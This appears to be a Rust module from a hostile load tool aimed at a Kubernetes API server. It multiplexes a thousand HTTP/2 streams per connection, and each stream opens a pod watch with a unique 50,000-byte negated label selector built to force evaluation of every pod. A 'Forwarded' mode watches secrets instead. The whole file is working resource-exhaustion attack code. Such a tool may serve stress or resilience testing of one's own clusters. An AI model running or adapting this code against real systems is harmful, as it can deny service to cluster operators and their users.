//! Many watches on few HTTP/2 connections.

use std::fmt::Write;
use std::sync::Arc;
use std::sync::atomic::Ordering;

use anyhow::Result;
use bytes::Bytes;
use http_body_util::{BodyExt, Empty};
use hyper::Request;
use hyper::client::conn::http2::{Builder, SendRequest};
use hyper_util::rt::{TokioExecutor, TokioIo};
use tokio::task::JoinSet;

use super::{Scene, count};
use crate::cli::hostile::Attack;

/// Streams on one connection.
const STREAMS: usize = 1_000;
/// Length of a selector, bytes.
const SELECTOR_LEN: usize = 50_000;
/// A receive window for all streams of a connection.
const WINDOW_LEN: u32 = 1 << 30;

type Sender = SendRequest<Empty<Bytes>>;

/// Begins.
pub(super) fn begin(scene: &Arc<Scene>, clients: &mut JoinSet<()>) {
    let all = scene.flags.clients;
    for first in (0..all).step_by(STREAMS) {
        let scene = scene.clone();
        clients.spawn(async move {
            let numbers = first..(first + STREAMS).min(all);
            let len = numbers.len() as u64;
            let mut streams = JoinSet::new();
            match connect(&scene, &mut streams).await {
                Err(_) => {
                    scene.counts.refused.fetch_add(len, Ordering::Relaxed);
                    scene.counts.begun.fetch_add(len, Ordering::Relaxed);
                }
                Ok(sender) => {
                    count(&scene.counts.connections);
                    for number in numbers {
                        scene.pace.turn().await;
                        let (scene, sender) = (scene.clone(), sender.clone());
                        streams.spawn(async move {
                            let outcome = watch(&scene, sender, number).await;
                            if outcome.is_err() {
                                count(&scene.counts.closed);
                            }
                        });
                    }
                }
            }
            while streams.join_next().await.is_some() {}
        });
    }
}

async fn connect(scene: &Scene, streams: &mut JoinSet<()>) -> Result<Sender> {
    let stream = scene.target.connect_from(scene.flags.source, "h2").await?;
    let (sender, connection) = Builder::new(TokioExecutor::new())
        .initial_connection_window_size(WINDOW_LEN)
        .handshake(TokioIo::new(stream))
        .await?;
    streams.spawn(async move { drop(connection.await) });
    Ok(sender)
}

/// One watch, whose events are dropped.
async fn watch(scene: &Scene, mut sender: Sender, number: usize) -> Result<()> {
    let path = match scene.flags.attack {
        Attack::Forwarded => "/api/v1/secrets?watch=1".to_owned(),
        _ => format!("/api/v1/pods?watch=1&labelSelector={}", selector(number)),
    };
    let scheme = if scene.target.tls.is_some() {
        "https"
    } else {
        "http"
    };
    let uri = format!("{scheme}://{}{path}", scene.target.authority);
    let request = Request::get(uri).body(Empty::new())?;
    let response = sender.send_request(request).await;
    count(&scene.counts.begun);
    let response = response?;
    if response.status() != 200 {
        count(&scene.counts.refused);
        return Ok(());
    }
    count(&scene.counts.done);
    let mut body = response.into_body();
    while let Some(frame) = body.frame().await {
        frame?;
    }
    Ok(())
}

/// Terms that no pod contradicts, so that all of them are looked at; different ones for each watch.
fn selector(number: usize) -> String {
    let mut text = format!("!a{number}");
    for term in 0.. {
        if text.len() >= SELECTOR_LEN {
            break;
        }
        let _ = write!(text, ",!b{term:x}");
    }
    text
}
